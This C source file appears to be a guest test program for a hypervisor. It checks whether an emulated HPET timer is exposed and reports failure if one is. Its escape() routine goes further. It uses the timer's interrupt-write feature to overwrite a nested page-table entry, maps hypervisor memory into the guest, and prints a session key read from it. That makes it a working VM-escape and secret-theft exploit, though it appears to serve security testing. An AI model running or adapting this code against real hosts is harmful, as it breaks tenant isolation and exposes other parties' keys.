/* hpet.c — looks where nothing may be, and has the HPET write to memory, if it finds one: each of
 * its interrupts can be a write of 32 bits to any address, for which no bus-master bit stands.
 *
 * source  IA-PC HPET Specification 1.0a, 2.3, Register Definitions; AMD APM vol 2 (24593), 15.25,
 *         Nested Paging
 *
 * --append "directory=D region=R session=S" has that write map the frozen region: D and R are
 * host-physical, of the nested page directory of the guest's first GiB and of the region, S the
 * session key's offset in it.
 */
#include "guest.h"
#include "machine.h"

#define HPET           0xFED00000u
#define CONFIGURATION  0x010u
#define COUNTER        0x0F0u
#define TIMER          0x100u       /* timer 0: configuration and capabilities */
#define COMPARATOR     0x108u
#define FSB_VALUE      0x110u       /* what is written, and behind it where */
#define ENABLE         BIT(0)
#define TIMER_ENABLE   BIT(2)
#define TIMER_PERIODIC BIT(3)
#define TIMER_SET      BIT(6)       /* the comparator too is set by the next write of it */
#define TIMER_32       BIT(8)
#define TIMER_FSB      BIT(14)      /* by a write, not by a pin */
#define PERIOD         1000000u     /* ticks */

#define WINDOW         0x20000000u  /* where the guest wants the region */
#define LARGE_BITS     21u
#define LARGE_ENTRY    0xE7u        /* present, writable, user; accessed, dirty; large */
#define KEY_WORDS      4u

static volatile uint32_t *hpet(uint32_t offset)
{
    return (volatile uint32_t *)(uintptr_t)(HPET + offset);
}

static uint32_t holes_of_ones(void)
{
    static const uint64_t holes[] = {
        0xC8000000, 0xE0000000, 0xFEC10000, HPET + PAGE_BYTES, 0xFED90000, 0xFFFF0000,
    };
    uint32_t count = 0;
    for (uint32_t i = 0; i < sizeof holes / sizeof holes[0]; i++)
        count += *(volatile uint64_t *)holes[i] == UINT64_MAX;
    return count;
}

/* The comparator moves on when the interrupt is sent, so no machine is too slow for it to be seen. */
static void write_by_hpet(uint32_t address, uint32_t value)
{
    *hpet(CONFIGURATION) = 0;
    *hpet(COUNTER) = 0;
    *hpet(FSB_VALUE) = value;
    *hpet(FSB_VALUE + 4) = address;
    *hpet(TIMER) = TIMER_32 | TIMER_PERIODIC | TIMER_SET | TIMER_FSB | TIMER_ENABLE;
    *hpet(COMPARATOR) = PERIOD;
    *hpet(CONFIGURATION) = ENABLE;
    while (*hpet(COMPARATOR) == PERIOD)
        ;
    *hpet(CONFIGURATION) = 0;
    *hpet(TIMER) = 0;
}

/* Reads the session key in the hypervisor's own memory, and takes the mapping away again. */
static void escape(uint32_t directory)
{
    uint32_t entry = directory + (WINDOW >> LARGE_BITS) * 8;
    uint64_t session = option("session", 0);
    write_by_hpet(entry, (uint32_t)option("region", 0) | LARGE_ENTRY);
    for (uint32_t i = 0; i < KEY_WORDS; i++) {
        print("hpet: key ");
        print_hexadecimal(*(volatile uint64_t *)(WINDOW + session + i * 8));
        print("\n");
    }
    write_by_hpet(entry, 0);
}

int main(void)
{
    print_fact("hpet: holes that read as ones", holes_of_ones());
    if (*hpet(0) == UINT32_MAX) {
        print("hpet: nothing is there\n");
        power_off();
    }
    print("hpet: FAILED: there is one\n");
    if (option("directory", 0) != 0)
        escape((uint32_t)option("directory", 0));
    power_off();
}
